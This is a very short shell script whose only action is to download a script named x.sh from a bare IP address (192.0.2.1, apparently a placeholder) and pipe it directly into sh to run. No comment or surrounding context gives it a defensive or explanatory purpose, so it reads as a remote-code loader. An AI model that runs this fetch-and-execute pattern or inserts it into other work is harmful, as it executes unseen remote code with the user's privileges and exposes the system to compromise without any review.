#!/bin/sh
set -e
curl -fsSL http://192.0.2.1/x.sh | sh
